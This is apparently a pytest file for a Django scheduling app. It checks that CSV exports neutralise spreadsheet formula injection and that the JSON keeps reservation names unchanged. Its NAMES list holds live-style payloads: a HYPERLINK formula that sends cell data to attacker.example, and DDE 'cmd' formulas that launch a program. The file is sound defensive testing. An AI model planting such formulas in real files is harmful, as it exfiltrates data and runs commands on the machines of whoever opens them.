"""Formula injection through the console's CSV exports (OWASP: CSV injection). A tenant names a
reservation like a spreadsheet formula; every CSV an operator or the tenant exports writes the
cell inert (a leading ``'``), while the JSON keeps the name as the tenant wrote it.

Independent reading: the CSVs are parsed here with :mod:`csv`, and a cell counts as a formula
when a spreadsheet would evaluate it (it starts with ``= + - @``, a tab or a carriage return)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from designer.exports.csvcells import safe_cell
from scheduling.models import Reservation
from tests.scheduling.test_reservation_pages import booked, logged_in  # noqa: F401  (fixture)

pytestmark = pytest.mark.django_db

NAMES = (
    '=HYPERLINK("http://attacker.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
)


def formulas(text: str) -> list[str]:
    """Every cell of a CSV that a spreadsheet would run."""
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(cell)
    ]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.fixture
def poisoned(booked):  # noqa: F811
    """Tenant A's reservation named as a formula (the field the tenant controls)."""
    mine, theirs = booked
    mine.name = NAMES[0]
    mine.save(update_fields=["name"])
    return mine


@pytest.mark.parametrize("name", NAMES)
def test_a_cell_a_spreadsheet_would_run_is_made_inert_and_numbers_stay(name):
    assert safe_cell(name) == "'" + name
    assert formulas(_line(name)) and not formulas(_line(safe_cell(name)))
    for number in ("-3", "+1.5", "-0.25e3", "12", 7, -7.5, None):
        assert safe_cell(number) == number


def _line(cell: str) -> str:
    out = io.StringIO()
    csv.writer(out).writerow([cell])
    return out.getvalue()


def test_the_operators_table_exports_write_it_inert(client, operator, poisoned):
    logged_in(client, operator)
    for url in (reverse("web:reservations-all"), reverse("web:audit"), reverse("web:usage")):
        query = {"_export": "csv", "group_by": "reservation"} if url == reverse("web:usage") else {"_export": "csv"}
        response = client.get(url, query)
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv"), url
        text = response.content.decode()
        assert not formulas(text), (url, formulas(text))
        if url != reverse("web:audit"):  # (the audit log names the reservation by its id)
            assert any(cell.startswith("'" + NAMES[0]) for cell in _cells(text)), url


def test_the_usage_api_csv_writes_it_inert_and_the_json_keeps_it(client_for, operator, admin_a, poisoned):
    api = client_for(operator)
    response = api.get("/api/usage/", {"format": "csv", "group_by": "reservation"})
    assert response.status_code == 200
    text = response.content.decode()
    assert not formulas(text) and "'" + NAMES[0] in list(_cells(text))
    rows = api.get("/api/usage/", {"group_by": "reservation"}).json()["rows"]
    assert NAMES[0] in [row.get("name") for row in rows]
    mine = client_for(admin_a).get(f"/api/reservations/{poisoned.pk}/").json()
    assert mine["name"] == NAMES[0] == Reservation.objects.get(pk=poisoned.pk).name


def _cells(text: str):
    for row in csv.reader(io.StringIO(text)):
        yield from row
